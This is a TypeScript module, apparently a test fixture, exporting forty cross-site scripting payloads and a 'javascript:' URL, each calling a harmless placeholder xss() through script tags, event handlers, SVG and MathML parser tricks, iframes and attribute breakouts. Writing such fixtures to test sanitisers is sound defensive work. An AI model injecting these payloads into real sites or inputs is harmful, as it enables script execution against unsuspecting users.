/** Runs where it becomes the target of a link, a form or a frame. */
export const ADDRESS = 'javascript:xss()';

/**
 * Forty ways in which a text breaks out of its place in a page and runs script: elements, attributes, URLs, comments, raw text, data
 * blocks, and what parsers repair. Each calls `xss()` when it succeeds. None is longer than the name of a key may be.
 */
export const PAYLOADS: readonly string[] = [
  '<script>xss()</script>',
  '<ScRiPt>xss()</sCrIpT>',
  '<script/x>xss()</script/x>',
  '<script src=data:,xss()></script>',
  '<script type=module>xss()</script>',
  '<form action=javascript:xss()><button>go</button></form>',
  '</script><script>xss()</script>',
  '</title><script>xss()</script>',
  '</textarea><script>xss()</script>',
  '</style><script>xss()</script>',
  '</noscript><script>xss()</script>',
  '--><script>xss()</script><!--',
  ']]><script>xss()</script>',
  '<!--><script>xss()</script>-->',
  '<img src=x onerror=xss()>',
  "<img/src='x'/onerror=xss()>",
  '<img src=x onerror="xss()"',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=xss() onerror=xss()>',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a href=javascript:xss()><text y=20>go</text></a></svg>',
  '<math><mi xlink:href="javascript:xss()">go</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>',
  '<body onpageshow=xss()>',
  '<details open ontoggle=xss()>',
  '<input autofocus onfocus=xss()>',
  '<video src=x onerror=xss()></video>',
  '<audio><source src=x onerror=xss()></audio>',
  '<object data="data:text/html,<script>parent.xss()</script>"></object>',
  '<iframe src=javascript:parent.xss()></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<base href="javascript:xss()//">',
  '<a href="javascript:xss()">go</a>',
  '"><script>xss()</script>',
  "'><script>xss()</script>",
  '" autofocus onfocus=xss() x="',
  "' autofocus onfocus=xss() x='",
  ADDRESS,
];
